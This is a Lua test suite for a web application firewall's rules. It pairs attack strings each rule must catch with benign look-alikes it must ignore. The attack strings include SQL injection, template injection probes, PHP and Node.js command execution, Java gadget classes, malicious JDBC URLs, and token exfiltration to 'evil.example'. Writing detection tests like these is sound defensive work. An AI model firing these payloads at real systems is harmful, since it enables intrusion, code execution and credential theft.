local rule_checks = require "rule_checks"

-- SQLi, template, PHP and Java shapes from the second blind set (family_gen_blind_mix.py): the rules
-- widened or added for its misses, and the ones narrowed for its benign texts, value by value.
describe("edge.waf.rules second blind set (SQLi, SSTI, PHP, Java)", function()
    local caught_by, clean, ids

    setup(function()
        caught_by, clean, ids = rule_checks.new(assert)
    end)

    -- rules a value must not trigger (other families may still see it)
    local function not_by(rule_id, values)
        for _, v in ipairs(values) do
            assert.is_nil(ids(v)[rule_id], rule_id .. " matched: " .. v)
        end
    end

    it("142150 after narrowing: sleep and benchmark in SQL, or as the whole value", function()
        caught_by(142150, {
            "1' and sleep(5)-- -", "1 or sleep(5)#", "(select sleep(3))", "if(1=1,sleep(2),0)", "id desc, sleep(2)",
            "'||sleep(3)||'", "1 and benchmark(5000000,md5(1))", "sleep(5)", "SLEEP(5)#", "benchmark(1e7,sha1(1));",
            "1 xor sleep(rand()*3)", "1 and pg_sleep(1)", "x and randomblob(1e9)", " ORDER BY SLEEP(5)#",
            "1 group by sleep(1)", "SLEEP(5)='", "sleep(3)||'",
        })
        not_by(142150, { "sleep(5) in the test is flaky, use a fake clock", "eat and sleep (a lot) this weekend",
            "our benchmark(s) show 2x", "need more sleep (8h) before the release" })
    end)

    it("142200 and 142230 after narrowing: SELECT ... FROM t WHERE and DELETE FROM t", function()
        caught_by(142200, { "x select name from users where id=1", "1 select*from t where 1", "select 1 from(t) where 1" })
        caught_by(142230, { "delete from users", "delete from users where 1=1", "'; delete from `t`;--" })
        clean({ "https://github.com/search?q=select+from+where&type=code",
            "delete from my calendar anything after 6pm please :)" })
    end)

    it("134110, 134130 after narrowing: template statements and ERB tags that carry code", function()
        caught_by(134110, { "{% import os %}", "{% debug %}", "{% for c in [].__class__.__base__.__subclasses__() %}",
            "{% set x = 7*7 %}", "{%- include request.args.get('p') -%}", "{% if ''.__class__ %}",
            "{%\nfor\tx\nin\n().__class__\n%}" })
        caught_by(134130, { "<%= 7*7 %>", "<%= `id` %>", "<%= File.open('/etc/passwd').read %>", "<%- include('x') %>",
            "<% require 'open3' %>", "<%= IO.popen('id').readlines() %>", "<%=system(\"id\")%>" })
        clean({ "the Jinja template has a {% for item in items %} loop that's slow",
            "in ERB you write <%= @user.name %> and it escapes by default", "{% if user.is_admin %}admin{% endif %}" })
    end)

    it("134150: Razor explicit expressions with a call or System namespace", function()
        caught_by(134150, { "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
            "@( System.IO.File.ReadAllText(\"web.config\") )", "@(Html.Raw(Request.QueryString[\"x\"]))" })
        clean({ "ping me @(slack) or mail", "@john (backend) can you check?" })
    end)

    it("133100, 133110: variable functions, reflection callables, decoders and magic constants", function()
        caught_by(133100, { "$f='sys'.'tem';$f('id');", "$a = \"pass\" . \"thru\"; $a($_GET[1]);",
            "$x=base64_decode('c3lzdGVt'); $y=1; $x('id')" })
        caught_by(133110, { "base64_decode('c3lzdGVtKCdpZCcpOw==')", "hex2bin('6964')", "show_source(__FILE__)",
            "highlight_file(__DIR__)", "$x=new ReflectionFunction('system');$x->invoke('id');",
            "Closure::fromCallable('passthru')" })
        clean({ "PHP's base64_decode is not encryption, stop using it for passwords",
            "$price = 5; $total = $price * 2;" })
    end)

    it("144150: Groovy commands from literals, shells and evaluators", function()
        caught_by(144150, { "\"id\".execute().text", "'ls -la'.execute()", "['sh','-c','id'].execute()",
            "new GroovyShell().evaluate('1')", "Eval.me('1+1')", "@Grab('org.x:y:1')",
            "@groovy.transform.ASTTest(value={1})" })
        clean({ "cursor.execute(query) runs the SQL", "we evaluate the new shell next sprint" })
    end)

    it("round two, 135100/135110: bracket notation, other runtimes, shells to spawn, prototypes reached", function()
        caught_by(135100, { "global['process']['env']", "globalThis[\"require\"]('fs')", "process['binding']('fs')",
            "Deno.run({cmd:['id']})", "new Deno.Command('id')", "Bun.spawn(['id'])", "spawn('sh',['-c','id'])",
            "execFileSync('/bin/bash', ['-c', 'id'])", "fork(\"cmd.exe\")", "res.send(__dirname)",
            "res.end(process.env.SECRET)" })
        caught_by(135110, { "Object.getPrototypeOf({}).admin=true", "Reflect.getPrototypeOf(x)['isAdmin'] = 1",
            "x.__lookupGetter__('a')", "a.__defineSetter__('b', f)" })
        clean({ "process.env is empty inside the container, check the compose file",
            "Deno and Bun both start faster than node for small scripts",
            "the spawn point in level 3 is broken; players fall through the map",
            "Object.getPrototypeOf(x) === Foo.prototype is how we check it" })
    end)

    it("round two, 144100/144110/144130: class literals, polymorphic types, OGNL arithmetic, EL request objects",
        function()
        caught_by(144100, { "''.class.getSuperclass().getDeclaredMethods()", "x.class.getProtectionDomain()",
            "org.hibernate.engine.spi.TypedValue", "{\"@class\":\"org.x.Evil\"}",
            "[\"com.zaxxer.hikari.HikariConfig\",{\"metricRegistry\":\"ldap://x/a\"}]",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]" })
        caught_by(144110, { "%{1+1}", "%{ 7 * 7 }" })
        caught_by(144130, { "${param.cmd}", "${header['user-agent']}", "#{cookie.JSESSIONID}", "${paramValues.a[0]}" })
        clean({ "use ${param:-default} in bash", "${HOME}/bin", "100%{width} is not valid CSS",
            "com.zaxxer.hikari.HikariDataSource : HikariPool-1 - Starting...",
            "[\"www.example.com\", \"api.example.com\"]", "the class.getName() call is cheap" })
    end)

    it("round two, 133110 and 142220: request input, posix, native code, reflection; the '-' probe", function()
        caught_by(133110, { "getallheaders()['X']", "get_defined_vars()[\"_GET\"]", "posix_getpwuid(posix_geteuid())",
            "posix_kill(1, 9)", "dl('exploit.so')", "FFI::cdef('int system(const char *c);')",
            "(new ReflectionClass('PDO'))->newInstance()", "new ReflectionMethod('A','b')->invoke(null)" })
        caught_by(142220, { "'-'", "' + '", "'||'", "'&'", " '^' " })
        clean({ "getallheaders() returns nothing under php-fpm?", "the dl tag in HTML", "'-' means no value",
            "ReflectionClass is slow in hot paths", "'a'-'b'" })
    end)

    it("round three, SQLi: stacked SHOW, IF() with a comparison, CHAR() chains", function()
        caught_by(142170, { "1;show tables", "x'; SHOW DATABASES;--", "1; show grants" })
        caught_by(142190, { "1*if(1=1,1,0)", "if(now()=sysdate(),sleep(5),0)", "x'+IF(ascii(user())>64,1,0)+'" })
        caught_by(142200, { "CHAR(83)+CHAR(69)+CHAR(76)", "nchar(65)+nchar(66)+nchar(67)", "char(65)&char(66)&char(67)" })
        clean({ "show tables at the event: 12, ask Maria", "if (a > b && c < d) return; // review",
            "if (possible) we ship on Friday, otherwise Monday", "char(10) is a line feed",
            "in T-SQL use CHAR(13)+CHAR(10) for a line break", "=IF(A2>100,\"high\",\"low\") in column C" })
    end)

    it("round three, SSTI and PHP: secrets via the context, variable variables, droppers, imap_open", function()
        caught_by(134100, { "{{ messages.storages.0.signer.key }}", "{{ request.environ }}", "{{ secret_key }}" })
        caught_by(133100, { "$$a($$b)", "$$$x()", "$_=[];$_=@\"$_\";$_=$_['!'=='@'];", "$__ = 'a'; $___ .= 'b';" })
        caught_by(133110, { "imap_open('{x:143/imap}INBOX','','')", "copy('http://evil.example/x.txt','shell.php')",
            "error_log('<?php x ?>',3,'/var/www/s.php')", "rename('/tmp/up.jpg', 'up.phtml')" })
        clean({ "{{ user.name }} and {{ items.0.title }}", "copy the config from staging, then restart",
            "the $$ signs in the price column", "$_ in Perl is the default variable" })
    end)

    it("round three, Java and Node.js: BCEL names, computed require, process I/O", function()
        caught_by(144100, { "$$BCEL$$$l$8b$I$A$A$A$A", "{\"@type\":\"x\",\"driverClassName\":\"$$BCEL$$$l$8b\"}" })
        caught_by(135100, { "require(['child','process'].join('_'))", "require('child_'+'process')",
            "require(\"ch\" + x)" })
        caught_by(135130, { "process.openStdin()", "process.stdout.write(process.version)", "process.getuid()" })
        clean({ "require('./locales/' + lang)", "require(path.join(__dirname, 'config'))",
            "process: 1) apply 2) interview 3) offer", "process.env is empty inside the container",
            "we log JSON.stringify(process.env) only in dev", "Object.keys(process.env).length is 87" })
    end)

    it("round four, 141190 and 134130: JSFuck; Template Toolkit, Smarty/Latte, brace arithmetic, Dust", function()
        caught_by(141190, { "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", "(![]+[])[+[]]+(![]+[])[+!+[]]+([![]]+[][[]])" })
        caught_by(134130, { "[% 7*7 %]", "[% USE dir = Directory('/etc') %]", "[%- PERL %]print 1[% END %]", "{7*7}",
            "{ 7 * 7 }", "{$x=7*7}", "{$a = system('id')}", "{@math key=\"1\" method=\"add\" operand=\"2\"/}",
            "{@contextDump/}" })
        clean({ "wow!!!!!!!!!!!!!!!!!!!!!!!!!! thanks", "[[1,2],[3,4]] + [[5]] are arrays (nested [] ok)",
            "[% of budget %] is a placeholder", "use {x} and {y}, e.g. {1-5}", "ping {@john} on that",
            "the JS template uses ${total}", "the budget is {7 * 7} hours?? no, 49 hours" })
    end)

    it("round four, 133110 and 144100: PHP session/config/directory probes; Java stream, loader, file classes",
        function()
        caught_by(133110, { "$_SESSION['admin']=1", "ini_get_all()", "get_cfg_var('cfg_file_path')",
            "opendir('/var/www')", "scandir($d)" })
        caught_by(144100, { "java.io.ObjectInputStream", "java.net.URLClassLoader", "sun.misc.Unsafe",
            "java.util.Base64.getDecoder().decode('aWQ=')", "java.nio.file.Files.readAllLines(p)",
            "Thread.sleep(5000)", "${Thread.sleep(3000)}", "x;java.lang.Thread.sleep(10);" })
        clean({ "Thread.sleep(1000) in tests is flaky, use a latch", "the ObjectInputStream docs say never trust input",
            "we read the session in the middleware", "java.util.Base64 is the standard encoder since Java 8",
            "java.nio.file.Files.walk is much nicer than the old File API" })
    end)

    it("round four, 135100: the module cache, the process object handed to a call or returned", function()
        caught_by(135100, { "require.cache", "delete require.cache[k]", "require.main.require('fs')",
            "Object.prototype.toString.call(process)", "require('util').inspect(process)",
            "module.exports = function(){ return process }" })
        clean({ "clear require.cache in tests when mocking", "the hiring (process) takes two weeks",
            "we return process documentation in the wiki" })
    end)

    it("round five, XSS and SSTI: storage sent to another host, any {% tag %} with code", function()
        caught_by(141140, { "fetch('//evil.example',{method:'POST',body:localStorage.getItem('token')})",
            "navigator.sendBeacon('//x', sessionStorage.token)", "new Image().src='//x/?'+localStorage.jwt" })
        caught_by(134110, { "{% do _self.env.registerUndefinedFilterCallback('system') %}",
            "{% assign x = 'id' ~ 'x' %}", "{% autoescape false %}{{ x }}{% endautoescape %}",
            "{% set x = 'id' %}" })
        clean({ "localStorage.getItem('theme') returns null on first load",
            "fetch('/api/me', {headers: {Authorization: localStorage.token}})", "{% if items|length > 0 %}",
            "{% csrf_token %} goes inside the form", "{% block content %}{% endblock %}" })
    end)

    it("round five, PHP, Java, Node.js: element calls, chmod, XMLDecoder, Nashorn, node: specifiers, $where",
        function()
        caught_by(133100, { "[\"system\"][0](\"id\")", "$a=['system'];$a[0]('id');" })
        caught_by(133110, { "chmod('shell.php', 0777)", "touch('/var/www/html/x.php')" })
        caught_by(144140, { "<void method=\"start\"/>", "<object class=\"java.lang.ProcessBuilder\">",
            "load('nashorn:mozilla_compat.js')" })
        caught_by(135100, { "require('node:os').userInfo()", "require(\"node:net\").connect(1)",
            "require('fs/promises')", "import('node:child_process')" })
        caught_by(135130, { "{\"$where\":\"this.password.match(/.*/)\"}", "{'$function': {body: 'x'}}" })
        clean({ "chmod 644 on the uploads folder", "the void method returns nothing",
            "load the nashorn docs", "price in $where currency" })
    end)

    it("round six, Java: expression-language and gadget classes, Scanner/URL built in an expression", function()
        caught_by(144100, { "org.springframework.expression.spel.standard.SpelExpressionParser",
            "ognl.Ognl.getValue('1', null)", "com.opensymphony.xwork2.ActionContext.getContext()",
            "sun.reflect.annotation.AnnotationInvocationHandler", "com.sun.syndication.feed.impl.ObjectBean",
            "clojure.core$comp", "org.mozilla.javascript.NativeError", "org.python.core.PyFunction",
            "org.jboss.interceptor.proxy.InterceptorMethodHandler",
            "new java.util.Scanner(new java.net.URL('http://x').openStream()).next()" })
        clean({ "Spring's SpelExpressionParser is powerful, keep user input out of it",
            "we moved from sun.reflect to java.lang.invoke in the serializer",
            "clojure.core is the namespace with map and reduce" })
    end)

    it("round six, SSTI, PHP, Node.js: more sigils, Smarty tags, iterators, dynamic includes, env requires",
        function()
        caught_by(134120, { "!{7*7}", "$!{7*7}", "!{global.process.exit()}" })
        caught_by(134130, { "[=7*7]", "[=\"freemarker.template.utility.Execute\"?new()(\"id\")]",
            "{math equation=\"7*7\"}", "{fetch file='/etc/passwd'}" })
        caught_by(133110, { "header_register_callback('phpinfo')", "new FilesystemIterator('/var/www')",
            "new SplFileObject($f)", "spl_autoload_register(function($c){include '/tmp/'.$c;})",
            "require_once 'modules/' . $_GET['m'];" })
        caught_by(135100, { "{\"escapeFunction\":\"1;return process\"}", "require(process.env.X)",
            "require(req.query.module)" })
        clean({ "Liquid: {{ product.title | upcase }} on the product page",
            "Pug uses #{name} for interpolation and !{html} for raw output",
            "Velocity: $!{user.name} prints nothing when the name is null",
            "FreeMarker's [=user.name] is the square bracket interpolation syntax",
            "the DirectoryIterator class is the easiest way to list files in PHP",
            "require('../config') loads the shared settings" })
    end)

    it("round seven, 144160 and 144100: JDBC URLs that run code, more gadget packages", function()
        caught_by(144160, { "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://x/x.sql'",
            "jdbc:h2:mem:test;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE ALIAS x AS 'x'",
            "jdbc:mysql://x:3306/db?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.x",
            "jdbc:postgresql://x/db?socketFactory=org.x.Y&socketFactoryArg=http://x/",
            "jdbc:mysql://x/db?allowLoadLocalInfile=true" })
        caught_by(144100, { "org.apache.log4j.receivers.db.JNDIConnectionSource", "com.caucho.naming.QName" })
        clean({ "the H2 console uses jdbc:h2:mem:testdb by default",
            "set autoDeserialize only in the legacy reporting job", "jdbc:postgresql://db:5432/app?sslmode=require" })
    end)

    it("round seven, Node.js, PHP, SSTI, XSS: stack hooks, sockets, ERB secrets, Razor statics, <portal>", function()
        caught_by(135130, { "Error.prepareStackTrace = (e, f) => f[0].getThis()", "Object.getOwnPropertyNames(global)",
            "Object.keys(process)" })
        caught_by(135100, { "serialize.unserialize(req.cookies.profile)" })
        caught_by(133110, { "apache_setenv('x','y')", "pcntl_fork()", "stream_socket_client('tcp://10.0.0.9:4444')",
            "socket_create(AF_INET, SOCK_STREAM, SOL_TCP)", "file('http://evil.example/x')" })
        caught_by(134130, { "<%= ENV %>", "<%= Rails.application.secrets %>", "<%= 7*7 %>" })
        caught_by(134150, { "@Environment.GetEnvironmentVariable(\"PATH\")", "@File.ReadAllText(\"web.config\")" })
        caught_by(134100, { "{{ get_flashed_messages }}" })
        caught_by(141100, { "<portal src=//evil.example/>" })
        clean({ "ERB: <%= link_to 'Home', root_path %> in the layout", "@Environment variables are documented",
            "file('notes.txt') in PHP returns an array of lines", "our socket_create wrapper retries three times",
            "Error.prepareStackTrace is how source-map-support hooks stack traces",
            "Spring's systemProperties bean is handy in @Value expressions" })
    end)

    it("round eight, 144170 and 144100: Commons Text lookups, JMX and Jolokia, BeanShell", function()
        caught_by(144170, { "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "${url:UTF-8:http://x/}",
            "${file:UTF-8:/etc/passwd}", "${dns:address|x.example}" })
        caught_by(144100, { "service:jmx:rmi:///jndi/rmi://x:1099/jmxrmi", "bsh.XThis",
            "/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/x" })
        clean({ "use ${file:-default.txt} in the bash script", "bash substring: ${url:0:8} gives the scheme",
            "the jolokia endpoint is disabled in prod" })
    end)

    it("round eight, PHP, SSTI, Node.js: callbacks, transforms called, filter tags, Deno/Bun, data: imports",
        function()
        caught_by(133110, { "preg_replace_callback('/.*/', 'system', 'id')", "mb_ereg_replace_callback('.*', 'passthru', 'x')",
            "array_udiff([1], [2], 'system')" })
        caught_by(133100, { "str_replace('x','','sxystem')('id')", "substr('xsystem',1)('id')",
            "sprintf('%s%s','sys','tem')('id')" })
        caught_by(134110, { "{% filter system %}id{% endfilter %}", "{% apply system %}id{% end %}" })
        caught_by(134100, { "{{ _context|json_encode }}" })
        caught_by(135100, { "import('data:text/javascript,1')", "Deno.env.get('AWS_SECRET_ACCESS_KEY')",
            "Deno.readTextFile('/etc/passwd')", "Bun.file('/etc/passwd').text()", "Bun.$`id`" })
        clean({ "Jinja: {% filter upper %}hello{% endfilter %}", "preg_replace_callback is cleaner than /e",
            "Deno.readTextFile is async, use the Sync variant", "Bun.file is faster than fs for static assets",
            "str_replace('a', 'b', $s) is all you need here" })
    end)

    it("round nine: method handles, java.beans, compilers; loader hooks; braced superglobals; admin log", function()
        caught_by(144100, { "java.lang.invoke.MethodHandles.lookup().findVirtual(x, y, z)",
            "MethodHandles.lookup().findStatic(Runtime.class, \"getRuntime\", t)", "java.beans.Expression",
            "java.beans.EventHandler", "javax.tools.ToolProvider.getSystemJavaCompiler()", "jdk.jshell.JShell.create()" })
        caught_by(135100, { "require.extensions['.txt'] = require.extensions['.js']", "module._compile('1', 'x.js')" })
        caught_by(135130, { "new vm.SourceTextModule('export default 1')", "process.report.writeReport()" })
        caught_by(133110, { "${_GET}[0](${_GET}[1])", "usort($a, 'pass'.'thru')" })
        caught_by(134110, { "{% get_admin_log 10 as log for_user 1 %}" })
        clean({ "MethodHandles replaced most of our reflection code", "JShell is great for quick experiments",
            "we use javax.tools in the IDE plugin", "require.extensions is deprecated in Node",
            "the vm.SourceTextModule API is still experimental", "array_map('trim', $lines) cleans the input" })
    end)

    -- nested bounded scans cost their product per start: main's 134100 took ~19 s on this 8 KB value
    it("134100, 134130, 144160: many openers without a closing delimiter scan in bounded time", function()
        for _, piece in ipairs({ "{{ (", "[%(", "[=(", "jdbc:h2:" }) do
            local started = os.clock()
            ids(string.rep(piece, math.floor(8000 / #piece)))
            assert.is_true(os.clock() - started < 3, "slow scan on repeated " .. piece)
        end
        caught_by(134100, { "{{ " .. string.rep("x", 200) .. " * 2 }}", "{{\n  config.items()\n}}" })
        caught_by(134130, { "[% 7*7 %]", "[=7*7]" })
        clean({ "{{ user.name }} and " .. string.rep("(", 5) .. " no closing braces" })
    end)
end)
